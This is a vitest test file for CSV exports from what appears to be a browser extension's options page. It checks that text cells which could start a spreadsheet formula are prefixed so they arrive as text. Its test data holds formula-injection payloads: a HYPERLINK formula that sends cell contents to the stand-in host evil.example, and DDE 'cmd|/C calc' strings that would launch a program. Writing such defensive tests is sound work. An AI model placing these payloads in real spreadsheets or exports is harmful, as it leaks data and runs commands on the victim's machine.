/**
 * CSV exports are safe to open: text that a spreadsheet would run as a formula
 * (`=`, `+`, `-`, `@`, tab, carriage return first) arrives as text, in the analytics
 * exports and in the stale-card report alike.
 */
import { describe, expect, it } from 'vitest';
import { staleCsv, toCsv } from '../../../entrypoints/options/csv';
import { parseCsv } from '../../../utils/pack/authoring/csv';
import type { OpsReport } from '../../../utils/sync/handlers';

const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** Cells as a spreadsheet reads them back, header row included. */
const cells = (csv: string) => parseCsv(csv.replace(/^\uFEFF/, '')).records.map((r) => r.fields);

describe('CSV exports neutralise formulas', () => {
  it('prefixes every text cell that could start a formula, in any column', () => {
    const out = cells(toCsv(['Card', ...PAYLOADS], [PAYLOADS, ['Globex', 'a=b', 'x-y', 'mail@acme.com', '', '3']]));
    for (const row of out) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(out[1][0]).toBe(`'${PAYLOADS[0]}`);
    // Everything else is left exactly as it was.
    expect(out[2]).toEqual(['Globex', 'a=b', 'x-y', 'mail@acme.com', '', '3']);
  });

  it('keeps numbers as numbers, negative ones too', () => {
    expect(cells(toCsv(['n'], [[-3], [12]])).slice(1)).toEqual([['-3'], ['12']]);
  });

  it('the stale-card report: a card or owner named like a formula is text', () => {
    const report: OpsReport = {
      stale: [{ owner: '=cmd|\'/C calc\'!A0', cards: [{ id: 'globex', name: '@SUM(1+1)*cmd|\'/C calc\'!A0', reviewedAt: '2026-01-01', reviewEvery: 30, dueOn: '2026-01-31', daysOverdue: 296 }] }],
      dueSoon: [],
      sites: [],
    };
    const out = cells(staleCsv('en', report));
    expect(out[0]).toEqual(['Owner', 'Card', 'ID', 'Reviewed', 'Review was due', 'Overdue']);
    expect(out[1]).toEqual(["'=cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0", 'globex', '2026-01-01', '2026-01-31', '296']);
  });
});
